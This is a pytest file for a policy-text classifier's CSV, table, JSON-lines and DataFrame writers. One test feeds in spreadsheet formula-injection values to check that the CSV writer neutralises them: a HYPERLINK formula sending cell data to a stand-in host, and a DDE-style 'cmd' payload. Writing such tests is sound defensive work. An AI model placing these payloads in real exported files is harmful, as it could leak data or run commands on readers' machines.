"""CSV, table and JSON writers, and the pandas DataFrame: columns, escaping, colour, dates."""

from __future__ import annotations

import csv
import io
import json

import pytest
from sample_profiles import (
    ACTIONS,
    Mark,
    empty_profile,
    extradition_profile,
    make_profile,
    reward_profile,
    sanctions_profile,
)

from classifier.errors import ConfigError
from classifier.model import ErrorInfo, ErrorRecord
from classifier.report.csvout import CsvWriter, columns, flatten, guard_cell
from classifier.report.output import OUTPUT_FORMATS, TableWriter, make_writer
from classifier.report.writer import dumps

PLUGIN_ACTIONS = ACTIONS + ["visa_restrictions"]


def csv_rows(records, actions=PLUGIN_ACTIONS, **kwargs):
    out = io.StringIO(newline="")
    writer = CsvWriter(out, actions, **kwargs)
    for item in records:
        record, date = item if isinstance(item, tuple) else (item, None)
        writer.write(record, date=date)
    writer.close()
    return out.getvalue(), list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


# -- CSV ------------------------------------------------------------------------------------


def test_csv_header_is_stable_and_covers_plugin_actions():
    text, _ = csv_rows([])
    header = text.splitlines()[0].split(",")
    assert header[:3] == ["id", "lang", "dominant"]
    assert header[-1] == "errors"
    assert header[3:6] == ["extradition_mentions", "extradition_score", "extradition_modality"]
    assert header[-4:-1] == ["visa_restrictions_mentions", "visa_restrictions_score",
                             "visa_restrictions_modality"]
    assert header == columns(PLUGIN_ACTIONS)


def test_csv_row_values():
    _, rows = csv_rows([sanctions_profile(), empty_profile()])
    row = rows[0]
    assert (row["id"], row["lang"], row["dominant"]) == ("sanctions-1", "en", "sanctions")
    assert row["sanctions_mentions"] == "2"
    assert row["sanctions_score"] == "2.0"
    assert row["sanctions_modality"] == "asserted"  # asserted beats negated
    assert row["tariffs_modality"] == "threatened"
    assert row["tariffs_score"] == "0.8"
    assert row["rewards_mentions"] == "0" and row["rewards_modality"] == ""
    assert row["visa_restrictions_mentions"] == "0"
    assert row["errors"] == ""
    quiet = rows[1]
    assert quiet["dominant"] == "" and quiet["sanctions_mentions"] == "0"


def test_csv_error_column_for_error_records_and_profile_errors():
    profile = make_profile("p", "Rome imposed sanctions on the firm.", [Mark("imposed sanctions", "sanctions")],
                           errors=(ErrorInfo("RuleTimeout", "rule x timed out"), ErrorInfo("PluginError", "boom")))
    record = ErrorRecord("bad-7", "MissingText", "record has no 'text' field", line=7)
    _, rows = csv_rows([profile, record])
    assert rows[0]["errors"] == "RuleTimeout: rule x timed out; PluginError: boom"
    assert rows[1]["id"] == "bad-7"
    assert rows[1]["errors"] == "MissingText: record has no 'text' field"
    assert rows[1]["sanctions_mentions"] == "0"


def test_csv_guards_formula_cells_and_quotes_properly():
    hostile_id = '=HYPERLINK("http://x.example/?q="&A1,"click")'
    profile = make_profile(hostile_id, "Rome imposed sanctions on the firm.",
                           [Mark("imposed sanctions", "sanctions")],
                           errors=(ErrorInfo("+cmd|' /C calc'!A0", "line one\nline two, with \"quotes\""),))
    records = [profile, ErrorRecord("@SUM(1+1)", "ValueError", "-2+3"),
               ErrorRecord("-10", "ValueError", "Nicolás, señor; 北京")]
    _, rows = csv_rows(records)
    assert rows[0]["id"] == "'" + hostile_id
    assert rows[0]["errors"].startswith("'+cmd")
    assert "line one\nline two, with \"quotes\"" in rows[0]["errors"]
    assert rows[1]["id"] == "'@SUM(1+1)"
    assert rows[1]["errors"] == "ValueError: -2+3"  # starts with a letter: not guarded
    assert rows[2]["id"] == "'-10"
    assert rows[2]["errors"] == "ValueError: Nicolás, señor; 北京"
    assert rows[0]["sanctions_score"] == "1.0"  # numbers are never prefixed
    for row in rows:  # no cell a spreadsheet would evaluate
        assert not any(str(v).startswith(("=", "+", "-", "@")) for v in row.values())
    assert len(rows) == 3


def test_guard_cell():
    assert guard_cell("=1+1") == "'=1+1"
    assert guard_cell("\tx") == "'\tx"
    assert guard_cell("plain") == "plain"
    assert guard_cell(-3) == -3 and guard_cell(None) is None


def test_csv_date_column():
    _, rows = csv_rows([(reward_profile(), "2024-05-01"), (empty_profile(), None)], with_date=True)
    assert list(rows[0])[:4] == ["id", "date", "lang", "dominant"]
    assert rows[0]["date"] == "2024-05-01" and rows[1]["date"] == ""


def test_flatten_same_for_objects_and_saved_dicts():
    for record in (sanctions_profile(), ErrorRecord("x", "T", "m")):
        saved = json.loads(dumps(record.to_dict()))
        assert flatten(record, ACTIONS) == flatten(saved, ACTIONS)


def test_csv_reads_in_pandas():
    pandas = pytest.importorskip("pandas")
    text, _ = csv_rows([sanctions_profile(), reward_profile(), ErrorRecord("e1", "T", "m")])
    frame = pandas.read_csv(io.StringIO(text), keep_default_na=False)
    assert list(frame.columns) == columns(PLUGIN_ACTIONS)
    assert frame["sanctions_mentions"].tolist() == [2, 0, 0]
    assert frame["rewards_score"].dtype.kind == "f"


def test_make_writer_csv_needs_action_names():
    with pytest.raises(ConfigError, match="action types"):
        make_writer("csv", io.StringIO())


def test_every_format_writes_and_closes():
    for fmt in OUTPUT_FORMATS:
        out = io.StringIO()
        writer = make_writer(fmt, out, actions=ACTIONS)
        writer.write(sanctions_profile(), text=None, date="2024-01-01")
        writer.write(ErrorRecord("e", "T", "m"))
        writer.close()
        assert out.getvalue(), fmt


def test_csv_from_a_real_engine(write):
    from classifier.pipeline.engine import Engine

    pack = write("pack.toml", """
        [pack]
        name = "fmt_test"
        lang = "en"

        [[rules]]
        id = "sanctions.fmt_test_froze"
        action = "sanctions"
        patterns = ['\\bfroze\\s+(?:the\\s+)?assets\\b']
        examples.match = ["Rome froze the assets of the firm."]
        examples.no_match = ["The lake froze."]
    """)
    engine = Engine(rules=[pack], entry_points=False,
                    env={"POLICY_CLASSIFIER_PLUGINS": "segment,sanctions,military,rewards,tariffs,extradition"})
    profile = engine.classify("The ministry froze the assets of three banks. Markets were calm.", id="=a1")
    _, rows = csv_rows([profile], actions=list(engine.actions))
    assert int(rows[0]["sanctions_mentions"]) >= 1
    assert rows[0]["id"] == "'=a1"


# -- table ----------------------------------------------------------------------------------


def table(records, **kwargs):
    out = io.StringIO()
    writer = TableWriter(out, actions=ACTIONS, **kwargs)
    for record, date in records:
        writer.write(record, date=date)
    writer.close()
    return out.getvalue()


def test_table_plain_has_no_ansi_and_shows_the_facts():
    text = table([(sanctions_profile(), "2024-03-02"), (ErrorRecord("bad", "ValueError", "no text"), None)])
    assert "\033" not in text
    assert "sanctions-1  lang=en  date=2024-03-02  dominant=sanctions" in text
    assert "strongest: asserted" in text
    assert "25%" in text
    assert "bad  ERROR ValueError: no text" in text


def test_table_colour_only_when_asked():
    assert "\033[" in table([(sanctions_profile(), None)], color=True)


def test_table_verbose_shows_highlighted_evidence():
    text = table([(sanctions_profile(), None)], verbose=True)
    assert "[[imposed sanctions]]" in text
    assert "[[impose tariffs of 25%]]" in text
    assert "tariffs: threatened (threatened to)  Iran -> United States  25%" in text
    coloured = table([(sanctions_profile(), None)], verbose=True, color=True)
    assert "[[" not in coloured and "\033[1mimposed sanctions" in coloured


# -- JSON with a date -----------------------------------------------------------------------


def test_json_lines_add_the_date_after_the_id_only_when_given():
    out = io.StringIO()
    writer = make_writer("jsonl", out)
    writer.write(reward_profile(), date="2024-02-29")
    writer.write(reward_profile())
    lines = out.getvalue().splitlines()
    first = json.loads(lines[0])
    assert list(first)[:2] == ["id", "date"] and first["date"] == "2024-02-29"
    assert lines[1] == dumps(reward_profile().to_dict())


# -- DataFrame ------------------------------------------------------------------------------


def test_dataframe_from_objects_and_dicts():
    pytest.importorskip("pandas")
    from classifier.integrations.dataframe import profiles_to_dataframe

    records = [sanctions_profile(), extradition_profile(), ErrorRecord("e1", "ValueError", "bad")]
    frame = profiles_to_dataframe(records, actions=ACTIONS)
    assert len(frame) == 3
    assert list(frame.columns) == columns(ACTIONS)
    assert frame.loc[0, "sanctions_mentions"] == 2
    assert frame.loc[1, "extradition_modality"] == "asserted"
    assert frame.loc[2, "errors"] == "ValueError: bad"
    assert frame["tariffs_mentions"].dtype == "int64"
    saved = [json.loads(dumps(r.to_dict())) for r in records]
    assert profiles_to_dataframe(saved, actions=ACTIONS).equals(frame)


def test_dataframe_default_actions_and_date():
    pytest.importorskip("pandas")
    from classifier.integrations.dataframe import profiles_to_dataframe

    saved = [dict(json.loads(dumps(sanctions_profile().to_dict())), date="2024-01-05"),
             json.loads(dumps(reward_profile().to_dict()))]
    frame = profiles_to_dataframe(saved)
    assert list(frame.columns)[:4] == ["id", "date", "lang", "dominant"]
    assert [c for c in frame.columns if c.endswith("_mentions")] == [
        "sanctions_mentions", "tariffs_mentions", "rewards_mentions"]
    assert frame.loc[0, "date"] == "2024-01-05"


def test_dataframe_without_pandas_says_how_to_install(monkeypatch):
    import sys

    from classifier.integrations.dataframe import profiles_to_dataframe

    monkeypatch.setitem(sys.modules, "pandas", None)
    with pytest.raises(ImportError, match=r"policy-classifier\[pandas\]"):
        profiles_to_dataframe([reward_profile()])
